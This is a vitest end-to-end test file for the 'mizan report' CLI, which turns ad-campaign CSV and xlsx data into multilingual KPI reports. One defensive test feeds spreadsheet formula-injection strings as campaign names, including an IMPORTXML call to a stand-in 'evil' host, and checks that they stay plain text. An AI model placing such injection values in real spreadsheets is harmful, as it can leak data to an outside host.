/**
 * `mizan report` end to end: in-process through main(argv, io) and as real child processes, on
 * the bundled examples (numbers checked against the independently computed *.expected.json) and
 * on bad input (clear message, non-zero status, existing output untouched).
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { campaignCsv } from '../../bench/campaign-data';
import { EXIT } from '../../src/cli/main';
import type { ReportJson } from '../../src/core/report/json';
import { BUILTIN_TEMPLATES, exportTemplate } from '../../src/core/templates';
import { type Run, runReport } from '../helpers/cli-run';
import { sameNumber } from './formula-check';
import { checkSchema } from './schema-check';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const schema = JSON.parse(readFileSync(join(ROOT, 'docs/report.schema.json'), 'utf8'));
const dir = mkdtempSync(join(tmpdir(), 'mizan-cli-'));

function report(argv: string[], options: { tty?: boolean; cwd?: string } = {}): Promise<Run> {
  return runReport(argv, options.cwd ?? dir, options);
}

function expected(lang: string) {
  return JSON.parse(readFileSync(join(ROOT, `examples/campaigns-${lang}.expected.json`), 'utf8'));
}

async function sheets(path: string): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  return book;
}

describe.each(['en', 'ar', 'fa'])('the %s example', (lang) => {
  const xlsx = join(dir, `${lang}.xlsx`);
  const json = join(dir, `${lang}.json`);
  let run: Run;
  let doc: ReportJson;

  it('runs, printing the mapping and the headline KPIs', async () => {
    const args = ['--out', xlsx, '--json', json, '--group-by', 'A', '--profile', 'search'];
    run = await report([join(ROOT, `examples/campaigns-${lang}.csv`), ...args]);
    expect(run.err).toBe('');
    expect(run.status).toBe(EXIT.ok);
    expect(run.out).toMatch(/Columns \(header on row 1, 248 data rows\)/);
    expect(run.out).toMatch(/ D {3}.*measure: cost/);
    expect(run.out).toMatch(/KPI +Name +Total +Status/);
    // The table speaks the report's language: its digits, percent sign and status word (docs/digits.md).
    const ctr = {
      en: /\nctr +\S.* +\d+\.\d\d% +poor\n/,
      ar: /\nctr +\S.* +[٠-٩]+٫[٠-٩]{2}٪ +ضعيف\n/,
      fa: /\nctr +\S.* +[۰-۹]+٫[۰-۹]{2}٪ +ضعیف\n/,
    }[lang];
    expect(run.out).toMatch(ctr as RegExp);
    expect(run.out).toContain(`Wrote ${xlsx}`);
    doc = JSON.parse(readFileSync(json, 'utf8'));
    expect(checkSchema(doc, schema)).toEqual([]);
    expect(doc.lang).toBe(lang);
  });

  it('totals and KPIs equal the hand-computed expectations', () => {
    const want = expected(lang);
    expect(doc.source.dataRows).toBe(want.data_rows);
    for (const [measure, value] of Object.entries(want.totals as Record<string, number>)) {
      expect(sameNumber(doc.totals.measures[measure as 'cost'] as number, value), `${measure}`).toBe(true);
    }
    for (const [kpi, { value }] of Object.entries(want.kpis as Record<string, { value: number }>)) {
      const got = doc.totals.kpis[kpi]?.value;
      expect(got !== null && got !== undefined && sameNumber(got, value), `${kpi}: ${got} vs ${value}`).toBe(
        true,
      );
    }
    expect(doc.kpiInputs.conversion_rate?.visitors).toBe(want.conversion_rate_denominator);
    for (const kpi of Object.keys(want.kpis_not_computable)) {
      expect(doc.totals.kpis[kpi], kpi).toBeUndefined();
      expect(doc.notComputed.map((n) => n.kpi)).toContain(kpi);
    }
  });

  it('groups by channel as the expectations do', () => {
    const byChannel = (
      expected(lang).groups as { by: string; groups: { key: string; totals: Record<string, number> }[] }[]
    ).find((g) => g.by === 'channel');
    expect(byChannel).toBeDefined();
    expect(doc.groups.map((g) => g.label)).toEqual(byChannel?.groups.map((g) => g.key));
    byChannel?.groups.forEach((g, i) => {
      expect(sameNumber(doc.groups[i]?.measures.cost as number, g.totals.cost as number), g.key).toBe(true);
    });
  });

  it('writes an .xlsx with the report first, the source by its name, RTL for ar and fa', async () => {
    const book = await sheets(xlsx);
    expect(book.worksheets).toHaveLength(2);
    expect(book.worksheets[1]?.name).toBe(`campaigns-${lang}`);
    for (const sheet of book.worksheets) expect(sheet.views[0]?.rightToLeft).toBe(lang !== 'en');
    const report = book.worksheets[0] as ExcelJS.Worksheet;
    let formulas = 0;
    let percent = 0;
    report.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas++;
        if (cell.numFmt?.includes('%')) percent++;
      }),
    );
    expect(formulas).toBeGreaterThan(20);
    expect(percent).toBeGreaterThan(0);
    const rules = (report as unknown as { conditionalFormattings: unknown[] }).conditionalFormattings;
    expect(rules.length).toBeGreaterThan(0);
  });
});

describe('the same report whatever the file format', () => {
  const csvText = readFileSync(join(ROOT, 'examples/campaigns-en.csv'), 'utf8');
  const totalsOf = async (input: string, extra: string[] = []) => {
    const json = join(dir, `${Math.random().toString(36).slice(2)}.json`);
    const run = await report([input, '--json', json, ...extra]);
    expect(run.err).toBe('');
    expect(run.status).toBe(0);
    return (JSON.parse(readFileSync(json, 'utf8')) as ReportJson).totals.measures;
  };

  it('Excel "Unicode text" (UTF-16 LE, tab-separated) and "CSV UTF-8" (BOM, semicolons)', async () => {
    const want = expected('en').totals as Record<string, number>;
    const rows = csvText.trimEnd().split('\n');
    const utf16 = join(dir, 'unicode.txt');
    writeFileSync(
      utf16,
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(rows.map((r) => r.replace(/,/g, '\t')).join('\r\n'), 'utf16le'),
      ]),
    );
    const bom = join(dir, 'bom.csv');
    writeFileSync(bom, `\uFEFF${rows.map((r) => r.replace(/,/g, ';')).join('\r\n')}\r\n`);
    for (const path of [utf16, bom]) {
      const measures = await totalsOf(path);
      for (const [id, value] of Object.entries(want))
        expect(sameNumber(measures[id as 'cost'] as number, value), id).toBe(true);
    }
  });

  it('an .xlsx workbook, by --sheet', async () => {
    const want = expected('en').totals as Record<string, number>;
    const book = new ExcelJS.Workbook();
    book.addWorksheet('Cover').getCell('A1').value = 'Quarterly export';
    const sheet = book.addWorksheet('Ads data');
    for (const line of csvText.trimEnd().split('\n')) {
      sheet.addRow(
        line
          .split(',')
          .map((cell, i) => (i >= 3 && cell !== '' && !Number.isNaN(Number(cell)) ? Number(cell) : cell)),
      );
    }
    const path = join(dir, 'workbook.xlsx');
    await book.xlsx.writeFile(path);
    const measures = await totalsOf(path, ['--sheet', 'Ads data']);
    for (const [id, value] of Object.entries(want))
      expect(sameNumber(measures[id as 'cost'] as number, value), id).toBe(true);
  });
});

describe('--values-only', () => {
  it('writes numbers without formulas, statuses as fills', async () => {
    const out = join(dir, 'values.xlsx');
    const run = await report([
      join(ROOT, 'examples/campaigns-en.csv'),
      '--out',
      out,
      '--values-only',
      '--profile',
      'search',
    ]);
    expect(run.status).toBe(0);
    const report0 = (await sheets(out)).worksheets[0] as ExcelJS.Worksheet;
    let formulas = 0;
    const fills = new Set<string>();
    report0.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas++;
        const argb = (cell.fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;
        if (argb) fills.add(argb);
      }),
    );
    expect(formulas).toBe(0);
    // The example's CTR (2.48%) is poor and its conversion rate (5.93%) fair against search ads.
    expect([...fills]).toEqual(expect.arrayContaining(['FFFFC7CE', 'FFFFEB9C']));
  });
});

describe('text from the sheet stays text', () => {
  it('campaign names that look like formulas', async () => {
    const names = ['=IMPORTXML("http://evil","//a")', '+1', '-cmd', '@SUM(A1)'];
    const csv = join(dir, 'inject.csv');
    writeFileSync(
      csv,
      `Campaign,Cost,Impressions,Clicks\n${names.map((n, i) => `"${n.replace(/"/g, '""')}",${10 + i},${1000 * (i + 1)},${50 + i}`).join('\n')}\nBrand,5,500,5\n`,
    );
    const out = join(dir, 'inject.xlsx');
    const run = await report([csv, '--out', out, '--group-by', 'Campaign']);
    expect(run.err).toBe('');
    expect(run.status).toBe(0);
    const book = await sheets(out);
    const found = (sheet: ExcelJS.Worksheet) => {
      const strings: string[] = [];
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.String && names.includes(cell.value as string))
            strings.push(cell.value as string);
          if (cell.type === ExcelJS.ValueType.Formula) expect(cell.formula).not.toMatch(/IMPORTXML|cmd|@/);
        }),
      );
      return strings;
    };
    // Every name is a text cell of the source sheet, and a text label of the report's groups.
    expect(found(book.worksheets[1] as ExcelJS.Worksheet).sort()).toEqual([...names].sort());
    expect(found(book.worksheets[0] as ExcelJS.Worksheet)).toEqual(expect.arrayContaining(names));
  });
});

describe('bad input: a clear message, a non-zero status, the existing output untouched', () => {
  const target = join(dir, 'existing.xlsx');
  const sentinel = 'an earlier report the user keeps';
  const garbage = join(dir, 'garbage.csv');
  writeFileSync(
    garbage,
    Uint8Array.from({ length: 2048 }, (_, i) => (i * 131 + 7) % 256),
  );
  const empty = join(dir, 'empty.csv');
  writeFileSync(empty, '');
  const textOnly = join(dir, 'text-only.csv');
  writeFileSync(textOnly, 'Name,Notes\nAlice,likes the newsletter\nBob,asked for a call\n');

  it.each([
    ['a missing file', [join(dir, 'missing.csv')], EXIT.unreadable, /missing\.csv: no such file/],
    ['an empty file', [empty], EXIT.unreadable, /empty\.csv: is empty/],
    ['binary garbage', [garbage], EXIT.unreadable, /garbage\.csv: is not/],
    ['an unknown option', [textOnly, '--colour', 'red'], EXIT.usage, /unknown option "--colour"/],
    ['a bad --lang', [textOnly, '--lang', 'de'], EXIT.usage, /--lang must be one of/],
    ['an unknown profile', [textOnly, '--profile', 'nope'], EXIT.usage, /--profile: no profile "nope"/],
    ['a sheet the engine rejects', [textOnly], EXIT.rejected, /cannot build a report from .*text-only\.csv/],
    ['--sheet on a CSV', [textOnly, '--sheet', 'Ads'], EXIT.unreadable, /--sheet only applies to \.xlsx/],
  ])('%s', async (_name, argv, status, message) => {
    writeFileSync(target, sentinel);
    const run = await report([...argv, '--out', target]);
    expect(run.status).toBe(status);
    expect(run.err).toMatch(message);
    expect(run.err.startsWith('mizan report: ')).toBe(true);
    expect(readFileSync(target, 'utf8')).toBe(sentinel);
  });

  it('an output that cannot be written: status 4, no temporary file left behind', async () => {
    const folder = join(dir, 'out-folder');
    mkdirSync(folder, { recursive: true });
    mkdirSync(join(folder, 'report.json'), { recursive: true });
    const run = await report([
      join(ROOT, 'examples/campaigns-en.csv'),
      '--json',
      join(folder, 'report.json'),
    ]);
    expect(run.status).toBe(EXIT.unwritable);
    expect(run.err).toMatch(/cannot write .*report\.json/);
    expect(readdirSync(folder)).toEqual(['report.json']);
  });

  it('never writes over the input', async () => {
    const copy = join(dir, 'self.xlsx');
    writeFileSync(copy, 'x');
    const run = await report([copy, '--out', copy]);
    expect(run.status).toBe(EXIT.usage);
    expect(run.err).toMatch(/is the input file/);
  });

  it('a missing output folder is said before any work', async () => {
    const run = await report([
      join(ROOT, 'examples/campaigns-en.csv'),
      '--out',
      join(dir, 'no/such/folder/r.xlsx'),
    ]);
    expect(run.status).toBe(EXIT.unwritable);
    expect(run.err).toMatch(/the folder .*no\/such\/folder does not exist/);
  });
});

describe('--template', () => {
  const input = join(ROOT, 'examples/campaigns-en.csv');

  it('takes a built-in template: its KPIs in its order, its profile, named in the JSON', async () => {
    const builtin = BUILTIN_TEMPLATES.find((t) => t.id === 'paid-search');
    expect(builtin).toBeDefined();
    const json = join(dir, 'tpl-builtin.json');
    const run = await report([input, '--template', 'paid-search', '--json', json]);
    expect(run.status).toBe(0);
    const doc: ReportJson = JSON.parse(readFileSync(json, 'utf8'));
    expect(doc.template?.id).toBe('paid-search');
    expect(doc.kpis).toEqual(builtin?.kpis);
    expect(doc.profile?.id).toBe(builtin?.profile);
  });

  it('takes an exported template file; the command line wins over it', async () => {
    const base = BUILTIN_TEMPLATES.find((t) => t.id === 'paid-search');
    const file = join(dir, 'team.json');
    writeFileSync(
      file,
      exportTemplate({
        ...(base as NonNullable<typeof base>),
        id: 'team',
        name: 'Team',
        kpis: ['ctr', 'roas'],
      }),
    );
    const json = join(dir, 'tpl-file.json');
    const run = await report([
      input,
      '--template',
      file,
      '--json',
      json,
      '--lang',
      'fa',
      '--group-by',
      'none',
    ]);
    expect(run.status).toBe(0);
    const doc: ReportJson = JSON.parse(readFileSync(json, 'utf8'));
    expect([doc.template?.id, doc.kpis, doc.lang, doc.groups.length]).toEqual([
      'team',
      ['ctr', 'roas'],
      'fa',
      0,
    ]);
  });

  it.each([
    ['an unknown name', ['nope'], /no built-in template "nope" \(built-in: paid-search/],
    ['a missing file', ['./missing-template.json'], /missing-template\.json: no such file/],
    ['an invalid file', ['bad-template.json'], /bad-template\.json is not a valid template/],
  ])('refuses %s with status 2', async (_name, [spec], message) => {
    writeFileSync(join(dir, 'bad-template.json'), '{"schemaVersion": 1, "id": "Bad Id!"}');
    const run = await report([input, '--template', spec as string, '--json', join(dir, 'never.json')]);
    expect(run.status).toBe(EXIT.usage);
    expect(run.err).toMatch(message);
    expect(existsSync(join(dir, 'never.json'))).toBe(false);
  });

  it('refuses a template nested 5,000 levels deep with status 2 and a plain message, not a stack overflow', async () => {
    // Under the size limit (about 10 KB), but 5,000 arrays deep: issue 10, bug 8.
    const deep = `{"schemaVersion": 1, "id": "deep", "name": "Deep", "kpis": ${'['.repeat(5000)}${']'.repeat(5000)}}`;
    writeFileSync(join(dir, 'deep-template.json'), deep);
    const run = await report([input, '--template', 'deep-template.json', '--json', join(dir, 'never.json')]);
    expect(run.status).toBe(EXIT.usage);
    expect(run.err).toMatch(/nested more than \d+ levels deep/);
    expect(run.err).not.toMatch(/Maximum call stack|RangeError/);
    expect(existsSync(join(dir, 'never.json'))).toBe(false);
  });
});

describe('defaults and progress', () => {
  it('with no input, reports on the bundled example into out/', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'mizan-cwd-'));
    const run = await report([], { cwd });
    expect(run.status).toBe(0);
    expect(existsSync(join(cwd, 'out', 'campaigns-en-report.xlsx'))).toBe(true);
    expect(JSON.parse(readFileSync(join(cwd, 'out', 'campaigns-en-report.json'), 'utf8')).source.name).toBe(
      'campaigns-en',
    );
    expect(run.out).toContain('campaigns-en');
    // It says it read the example, with its template, and how to read one's own file.
    expect(run.out).toContain('No input file given: this is the bundled example, examples/campaigns-en.csv');
    expect(run.out).toContain('examples/template-en.json');
    expect(run.out).toContain('npm run report -- your-file.csv');
    // The example's own template colours the statuses against its team's targets, by hand:
    // conversion rate 3,907 / 65,875 sessions = 5.93% ≥ 5% (good); CAC 62,389.58 / 1,070 = 58.31 > 50 × 1.1 (poor).
    const json = JSON.parse(readFileSync(join(cwd, 'out', 'campaigns-en-report.json'), 'utf8'));
    expect(JSON.stringify(json)).toContain('example-shop-goals');
    expect(run.out).toMatch(/conversion_rate .* 5\.93% +good/);
    expect(run.out).toMatch(/cac .* 58\.31 +poor/);
  });

  it('shows a progress bar over 50,000 rows on a terminal only', async () => {
    const csv = join(dir, 'big.csv');
    writeFileSync(csv, campaignCsv(60_000));
    const onTty = await report([csv, '--out', join(dir, 'big.xlsx'), '--quiet'], { tty: true });
    expect(onTty.status).toBe(0);
    expect(onTty.err).toContain('Building the report…');
    expect(onTty.err).toMatch(/\rWriting xlsx +\[#{24}\] 100%/);
    expect(onTty.err.endsWith('\r\x1b[2K')).toBe(true);
    const piped = await report([csv, '--out', join(dir, 'big2.xlsx'), '--quiet'], { tty: false });
    expect(piped.err).toBe('');
    const small = await report(
      [join(ROOT, 'examples/campaigns-en.csv'), '--json', join(dir, 's.json'), '-q'],
      { tty: true },
    );
    expect(small.err).toBe('');
  });
});

describe('as a real process', () => {
  it('bin/mizan.mjs report on the Persian example', () => {
    const out = join(dir, 'child-fa.xlsx');
    const json = join(dir, 'child-fa.json');
    const child = spawnSync(
      process.execPath,
      [
        join(ROOT, 'bin/mizan.mjs'),
        'report',
        join(ROOT, 'examples/campaigns-fa.csv'),
        '--out',
        out,
        '--json',
        json,
      ],
      { encoding: 'utf8', cwd: dir, env: { ...process.env, NO_COLOR: '1' } },
    );
    expect(child.stderr).toBe('');
    expect(child.status).toBe(0);
    expect(child.stdout).toMatch(/measure: cost/);
    expect(JSON.parse(readFileSync(json, 'utf8')).lang).toBe('fa');
    expect(existsSync(out)).toBe(true);
  });

  it('npm run report with an unknown option exits 2 with the message', () => {
    const child = spawnSync('npm', ['run', '--silent', 'report', '--', '--bogus'], {
      encoding: 'utf8',
      cwd: ROOT,
    });
    expect(child.status).toBe(2);
    expect(child.stderr).toContain('mizan report: unknown option "--bogus"');
  });
});
